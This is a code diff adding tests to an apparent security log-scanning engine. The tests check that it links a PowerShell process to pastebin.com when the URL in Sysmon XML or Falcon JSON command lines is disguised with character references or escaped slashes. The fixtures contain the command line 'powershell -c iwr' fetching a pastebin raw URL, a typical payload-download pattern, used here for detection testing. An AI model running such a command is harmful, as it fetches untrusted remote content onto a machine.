@@ -126,3 +126,53 @@ describe.each(['fast', 'full'] as const)('Joins under bounded memory (%s mode)',
     expect(stats.recordsParsed).toBe(mode === 'fast' ? 1 : lines.length);
   });
 });
+
+describe('A URL host in a Sysmon command line that entity references spell', () => {
+  const guid = '{11111111-2222-3333-4444-555555555555}';
+  const event = (id: number, data: string) =>
+    // No xmlns: its `http://` must not be what makes the engine look for URLs.
+    `<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>${id}</EventID><TimeCreated SystemTime='2024-03-01T10:00:00.1230000Z'/><Computer>WKS-7</Computer></System><EventData><Data Name='UtcTime'>2024-03-01 10:00:00.123</Data><Data Name='ProcessGuid'>${guid}</Data>${data}</EventData></Event>`;
+  const image =
+    "<Data Name='Image'>C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe</Data>";
+  /** `https&#58;//pastebin.com/raw/x`: the colon is a character reference. */
+  const processCreate = event(
+    1,
+    `${image}<Data Name='OriginalFileName'>PowerShell.EXE</Data><Data Name='CommandLine'>powershell -c iwr https&#58;//pastebin.com/raw/x</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='User'>CORP\\jdoe</Data>`,
+  );
+  /** A connection with no hostname: only the command line can name its host (SPEC §2). */
+  const connect = event(
+    3,
+    `${image}<Data Name='User'>CORP\\jdoe</Data><Data Name='Initiated'>true</Data><Data Name='DestinationIp'>104.20.67.143</Data><Data Name='DestinationHostname'>-</Data><Data Name='DestinationPort'>443</Data>`,
+  );
+
+  it.each(['fast', 'full'] as const)('names the connection in %s mode', async (mode) => {
+    // Act
+    const { groups } = await scanObject(chunks(Buffer.from(processCreate + connect)), {
+      origin: 'entity-url.xml',
+      rule: defaultRule(),
+      mode,
+    });
+    // Assess
+    expect(groups.map((g) => [g.key.process, g.key.domain, g.count])).toEqual([
+      ['powershell.exe', 'pastebin.com', 1],
+    ]);
+  });
+});
+
+describe('A URL host in a Falcon command line written with escaped slashes', () => {
+  /** `https:\/\/pastebin.com\/raw\/x`, as JSON encoders that escape `/` write it. */
+  const processCreate =
+    '{"event_simpleName":"ProcessRollup2","aid":"a1","TargetProcessId":"100","ImageFileName":"\\\\Device\\\\HarddiskVolume2\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","CommandLine":"powershell -c iwr https:\\/\\/pastebin.com\\/raw\\/x","ParentBaseFileName":"explorer.exe","UserName":"jdoe","timestamp":"1709287199000"}';
+
+  it.each(['fast', 'full'] as const)('names the connection in %s mode', async (mode) => {
+    // Act: no DNS record, so only the command line can name the connection's host (SPEC §2)
+    const { groups } = await scanObject(
+      chunks(Buffer.from([falconLines.aidmaster, processCreate, connection].join('\n'))),
+      { origin: 'escaped-url.ndjson', rule: defaultRule(), mode },
+    );
+    // Assess
+    expect(groups.map((g) => [g.key.process, g.key.domain, g.count])).toEqual([
+      ['powershell.exe', 'pastebin.com', 1],
+    ]);
+  });
+});
